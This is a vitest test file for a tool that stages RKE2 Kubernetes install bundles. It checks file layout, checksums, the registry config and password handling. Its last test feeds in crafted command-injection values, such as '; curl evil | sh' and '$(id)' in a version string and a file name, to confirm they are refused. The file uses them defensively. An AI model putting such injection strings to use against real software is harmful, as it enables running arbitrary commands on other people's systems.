import { execFile } from 'node:child_process';
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { stageBundle } from '../../src/stage/stage-bundle.js';
import { CraftedBundle } from '../helpers/crafted-bundle.js';
import { type FileHost, startFileHost } from '../helpers/file-host.js';
import { type FixtureRelease, buildRke2Release, hostRelease } from '../helpers/rke2-release.js';
import { requireTools } from '../helpers/tools.js';
import { pull, run, scratch, writeManifest } from './ferry-env.js';

const ok = requireTools('zstd', 'sha256sum', 'tar', 'gzip');
const sh = promisify(execFile);
const VERSION = 'v1.30.4+rke2r1';

/**
 * The staged directory against install.sh's artifact-path contract: the fixture release serves a model of
 * install.sh (test/fixtures/rke2/install-contract.sh; the real one when FERRY_RKE2_INSTALL_SH names it, see
 * scripts/check-real-install-sh.sh), and the generated README's install block is run as written, with only its
 * absolute node paths moved into a scratch root.
 */
describe.runIf(ok)('RKE2 stage', () => {
  let host: FileHost;
  let release: FixtureRelease;
  const bundles: Record<string, string> = {};

  beforeAll(async () => {
    release = await buildRke2Release(VERSION);
    host = await startFileHost();
    const urls = hostRelease(host, release);
    for (const [key, sets] of [
      ['sets', '    imageSets: [core, calico]\n'],
      ['aio', ''],
    ] as const) {
      const dir = scratch();
      const m = writeManifest(
        dir,
        `  rke2:\n    version: ${VERSION}\n    releaseUrl: ${urls.releaseUrl}\n    installScriptUrl: ${urls.installScriptUrl}\n${sets}`,
      );
      bundles[key] = (await pull(m, join(dir, 'b.tar'), [])).result.bundle;
    }
  });
  afterAll(async () => host?.stop());

  /** Runs the README's install block for `type` on a pretend node rooted at `root`. */
  async function followReadme(stagedRke2: string, root: string, type: 'server' | 'agent') {
    const readme = readFileSync(join(stagedRke2, 'README.md'), 'utf8');
    const block = new RegExp('```sh\\n(# install \\(' + type + '\\)\\n[\\s\\S]*?)```').exec(readme)?.[1];
    expect(block, 'README has an install block').toBeDefined();
    const script = (block as string)
      .replace('cd /opt/rke2-artifacts', `cd '${stagedRke2}'`)
      .replaceAll('/var/lib/rancher', `${root}/var/lib/rancher`)
      .replaceAll('/etc/rancher', `${root}/etc/rancher`);
    // The SKIP_ variables keep the real install.sh (FERRY_RKE2_INSTALL_SH) from reloading systemd; the model ignores them.
    const env = {
      ...process.env,
      INSTALL_RKE2_TAR_PREFIX: `${root}/usr/local`,
      INSTALL_RKE2_AGENT_IMAGES_DIR: `${root}/var/lib/rancher/rke2/agent/images`,
      INSTALL_RKE2_SKIP_RELOAD: '1',
      INSTALL_RKE2_SKIP_FAPOLICY: '1',
    };
    return sh('sh', ['-ec', script], { env });
  }

  it('lays out DIR/rke2 for install.sh, keeps the image lists out of its way, and writes registries.yaml for the enclave', async () => {
    const dir = scratch();
    const r = await stageBundle({
      bundlePath: bundles.sets as string,
      dir,
      registry: {
        host: 'repos.enclave.example:10050',
        prefix: 'rke2',
        plainHttp: false,
        insecure: false,
        username: 'node',
        password: 'n0de-pw',
      },
    });
    const rke2 = join(dir, 'rke2');
    expect(readdirSync(rke2).sort()).toEqual([
      'README.md',
      'config.toml.tmpl',
      'image-lists',
      'install.sh',
      'registries.yaml',
      'rke2-images-calico.linux-amd64.tar.zst',
      'rke2-images-core.linux-amd64.tar.zst',
      'rke2.linux-amd64.tar.gz',
      'sha256sum-amd64.txt',
    ]);
    expect(readdirSync(join(rke2, 'image-lists')).sort()).toEqual([
      'rke2-images-calico.linux-amd64.txt',
      'rke2-images-core.linux-amd64.txt',
    ]);
    // Upstream names and bytes, so install.sh's lookups by file name in the upstream checksum list work.
    for (const name of ['sha256sum-amd64.txt', 'rke2.linux-amd64.tar.gz', 'rke2-images-core.linux-amd64.tar.zst']) {
      expect(readFileSync(join(rke2, name)).equals(release.assets.get(name) as Buffer)).toBe(true);
    }
    await sh('sha256sum', ['-c', '--ignore-missing', 'sha256sum-amd64.txt'], { cwd: rke2 });
    expect(statSync(join(rke2, 'install.sh')).mode & 0o777).toBe(0o755);

    const reg = parse(readFileSync(join(rke2, 'registries.yaml'), 'utf8'));
    expect(reg).toEqual({
      mirrors: { 'docker.io': { endpoint: ['https://repos.enclave.example:10050'], rewrite: { '^(.*)$': 'rke2/$1' } } },
      configs: { 'repos.enclave.example:10050': { auth: { username: 'node', password: 'n0de-pw' } } },
    });
    expect(statSync(join(rke2, 'registries.yaml')).mode & 0o777).toBe(0o600);
    const tmpl = readFileSync(join(rke2, 'config.toml.tmpl'), 'utf8');
    expect(tmpl).toContain(
      '[plugins."io.containerd.grpc.v1.cri".registry.mirrors."docker.io"]\n  endpoint = ["https://repos.enclave.example:10050"]',
    );
    expect(r.rke2?.upstreams).toEqual(['docker.io']);
  });

  it('per-set tarballs: a node following the README ends with exactly the chosen tarballs and no .txt in the images directory', async () => {
    const dir = scratch();
    await stageBundle({
      bundlePath: bundles.sets as string,
      dir,
      registry: { host: 'r.example:5000', prefix: '', plainHttp: true, insecure: false },
    });
    for (const type of ['server', 'agent'] as const) {
      const node = scratch('ferry-node-');
      await followReadme(join(dir, 'rke2'), node, type);
      expect(readdirSync(join(node, 'var/lib/rancher/rke2/agent/images')).sort()).toEqual([
        'rke2-images-calico.linux-amd64.tar.zst',
        'rke2-images-core.linux-amd64.tar.zst',
      ]);
      expect(readFileSync(join(node, 'usr/local/bin/rke2'), 'utf8')).toContain(VERSION);
      expect(readFileSync(join(node, 'etc/rancher/rke2/registries.yaml'), 'utf8')).toContain('http://r.example:5000');
    }
  });

  it('the CLI takes the registry password on stdin, writes it only into registries.yaml, never to its output', async () => {
    const dir = scratch();
    const r = await run(
      [
        '--no-progress',
        'bundle',
        'stage',
        bundles.sets as string,
        '--dir',
        dir,
        '--registry',
        'repos.x:10050',
        '--plain-http',
        '--registry-username',
        'node',
        '--registry-password-stdin',
      ],
      { input: 's3cr3t-node-pw\n' },
    );
    expect(r.code).toBe(0);
    expect(r.stdout + r.stderr).not.toContain('s3cr3t-node-pw');
    expect(r.stdout).toContain('registries.yaml, config.toml.tmpl: mirrors for docker.io');
    expect(parse(readFileSync(join(dir, 'rke2', 'registries.yaml'), 'utf8')).configs).toEqual({
      'repos.x:10050': { auth: { username: 'node', password: 's3cr3t-node-pw' } },
    });
    const bad = await run(['bundle', 'stage', bundles.sets as string, '--dir', dir, '--registry-username', 'node']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('registry options need --registry HOST[:PORT]');
  });

  it('all-in-one tarball: install.sh verifies and places it itself, and finds no image list to copy along', async () => {
    const dir = scratch();
    await stageBundle({ bundlePath: bundles.aio as string, dir });
    const node = scratch('ferry-node-');
    await followReadme(join(dir, 'rke2'), node, 'server');
    expect(readdirSync(join(node, 'var/lib/rancher/rke2/agent/images'))).toEqual(['rke2-images.linux-amd64.tar.zst']);
    expect(readFileSync(join(dir, 'rke2', 'README.md'), 'utf8')).toContain('No `registries.yaml` was generated');
  });

  it('refuses a crafted RKE2 version or file name that would put a command into the README (exit 3, nothing staged)', async () => {
    const rke2 = (d: any) => d.annotations['dev.ferry.kind'] === 'rke2' && d.annotations['dev.ferry.rke2.role'] === 'checksums';
    const crafts: [string, (b: CraftedBundle) => void][] = [
      [
        'version annotation',
        (b) => b.editIndexEntry(rke2, (d) => (d.annotations['dev.ferry.rke2.version'] = `${VERSION}; curl evil | sh`)),
      ],
      ['lock version', (b) => b.editJson('ferry.lock.json', (l) => (l.rke2.version = `${VERSION}$(id)`))],
      [
        'file name',
        (b) => b.editJson('ferry.lock.json', (l) => (l.rke2.files.find((f: any) => f.role === 'checksums').name = 'sha256sum-$(id).txt')),
      ],
    ];
    for (const [what, edit] of crafts) {
      const work = scratch();
      const b = new CraftedBundle(bundles.sets as string);
      edit(b);
      const r = await run(['bundle', 'stage', b.write(join(work, 'crafted.tar')), '--dir', join(work, 'stage'), '--no-verify']);
      expect(r.stderr, what).toContain('[UNSAFE_VALUE]');
      expect(r.code, what).toBe(3);
      expect(readdirSync(work), what).toEqual(['crafted.tar']);
    }
  });
});
